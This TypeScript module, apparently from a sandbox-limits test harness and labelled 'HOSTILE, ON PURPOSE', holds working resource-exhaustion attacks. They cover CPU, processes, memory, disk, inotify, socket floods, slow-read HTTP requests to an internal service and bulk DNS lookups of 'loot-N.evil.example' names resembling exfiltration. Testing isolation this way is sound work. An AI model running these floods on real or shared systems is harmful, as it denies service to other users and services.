import { execFile, spawn, type ChildProcess } from 'node:child_process'
import { Resolver } from 'node:dns/promises'
import { rm, writeFile } from 'node:fs/promises'
import { connect, type Socket } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { promisify } from 'node:util'

import type { Flooded, FloodTarget, Outcome } from './instruction.ts'

const wantedProcesses = 150
const wantedMegabytes = 400
const wantedObjects = 8_000_000
const wantedDiskMegabytes = 128
const wantedConnections = 1_200
const wantedWatches = 64
const wantedAnswers = 16
const answerBytes = 5_000_000

/** HOSTILE, ON PURPOSE: takes of one thing as much as it gets; it has got it when that was more than a box gives. */
export async function flood(of: Flooded, forMs: number, target: FloodTarget): Promise<Outcome> {
  const until = Date.now() + forMs
  switch (of) {
    case 'processor': {
      for (;;) if (Date.now() > until) return { got: true, code: 'spun', evidence: `${forMs} ms` }
    }
    case 'output': {
      const line = `${'flood'.repeat(200)}\n`
      let written = 0
      for (; Date.now() < until && written < 20_000_000; written += line.length) process.stdout.write(line)
      return { got: true, code: 'written', evidence: `${written} bytes` }
    }
    case 'processes':
      return processes(forMs)
    case 'memory': {
      const held: Buffer[] = []
      for (let megabytes = 0; megabytes < wantedMegabytes; megabytes += 16) held.push(Buffer.alloc(16 * 1024 * 1024, 1))
      return { got: true, code: 'allocated', evidence: `${held.length * 16} MB` }
    }
    case 'heap': {
      const held: object[] = []
      while (held.length < wantedObjects) held.push({ at: held.length, next: held.at(-1) })
      return { got: true, code: 'allocated', evidence: `${held.length} objects` }
    }
    case 'disk':
      return disk()
    case 'names':
      return names(until, target.server)
    case 'connections':
      return connections(forMs, target)
    case 'watches':
      return watches(forMs)
    case 'slow reads':
      return slowReads(forMs, target)
  }
}

async function processes(forMs: number): Promise<Outcome> {
  const children = Array.from({ length: wantedProcesses }, () => spawn('/usr/bin/sleep', ['20'], { stdio: 'ignore' }))
  const started = await Promise.all(children.map(begins))
  await sleep(forMs)
  for (const child of children) child.kill('SIGKILL')
  const count = started.filter(Boolean).length
  return {
    got: count === wantedProcesses,
    code: count === wantedProcesses ? 'started' : 'EAGAIN',
    evidence: `${count} processes`,
  }
}

function begins(child: ChildProcess): Promise<boolean> {
  return new Promise((resolve) => child.once('spawn', () => resolve(true)).once('error', () => resolve(false)))
}

async function disk(): Promise<Outcome> {
  const files = Array.from({ length: wantedDiskMegabytes / 8 }, (_, at) => join(tmpdir(), `flood-${process.pid}-${at}`))
  try {
    for (const file of files) await writeFile(file, Buffer.alloc(8 * 1024 * 1024, 1))
    return { got: true, code: 'written', evidence: `${wantedDiskMegabytes} MB` }
  } finally {
    await Promise.all(files.map((file) => rm(file, { force: true })))
  }
}

async function names(until: number, server: string | undefined): Promise<Outcome> {
  const resolver = new Resolver({ timeout: 1_000, tries: 1 })
  if (server !== undefined) resolver.setServers([server])
  let [asked, answered] = [0, 0]
  while (Date.now() < until) {
    const found = await Promise.allSettled(
      Array.from({ length: 50 }, (_, at) => resolver.resolve4(`loot-${asked + at}.evil.example`)),
    )
    asked += found.length
    answered += found.filter(({ status }) => status === 'fulfilled').length
  }
  return { got: answered > 0, code: answered > 0 ? 'answered' : 'ENOTFOUND', evidence: `${answered} of ${asked} names` }
}

async function connections(forMs: number, { host = '192.0.2.1', port = 80 }: FloodTarget): Promise<Outcome> {
  const sockets: Socket[] = Array.from({ length: wantedConnections }, () => connect(port, host))
  for (const socket of sockets) socket.on('error', () => undefined) // those that are refused are counted below
  await sleep(forMs)
  const open = sockets.filter((socket) => !socket.destroyed && socket.readyState === 'open' && !socket.readableEnded)
  for (const socket of sockets) socket.destroy()
  const got = open.length > wantedConnections / 2
  return { got, code: got ? 'opened' : 'closed', evidence: `${open.length} of ${wantedConnections} connections stayed` }
}

/** Instances of inotify: the kernel counts them for each user of the host, whoever else needs some. */
async function watches(forMs: number): Promise<Outcome> {
  const call = process.arch === 'arm64' ? '26, 0' : '294, 0'
  const take = `my $n = 0; for (1..${wantedWatches}) { last if syscall(${call}) < 0; $n++ } print $n;`
  const script = `${take} sleep ${Math.ceil(forMs / 1_000)}`
  const { stdout } = await promisify(execFile)('/usr/bin/perl', ['-e', script])
  const got = Number(stdout) === wantedWatches
  return { got, code: got ? 'watching' : 'EMFILE', evidence: `${stdout} of ${wantedWatches}` }
}

/** Asks for large answers and never reads them: whoever answers may keep them meanwhile, but not for ever. */
async function slowReads(forMs: number, { host = '192.0.2.1', port = 80 }: FloodTarget): Promise<Outcome> {
  const body = JSON.stringify({ do: 'answer', bytes: answerBytes })
  const head = `POST /work HTTP/1.1\r\nhost: orders.fn.internal\r\ncontent-type: application/json\r\n`
  const sockets = Array.from({ length: wantedAnswers }, () => connect(port, host).pause())
  for (const socket of sockets)
    socket.on('error', () => undefined).write(`${head}content-length: ${body.length}\r\n\r\n${body}`)
  await sleep(forMs)
  const open = sockets.filter((socket) => socket.readyState !== 'closed' && socket.bytesWritten > 0).length
  for (const socket of sockets) socket.destroy()
  return { got: open > 0, code: 'unread', evidence: `${open} of ${wantedAnswers} answers of ${answerBytes} bytes` }
}
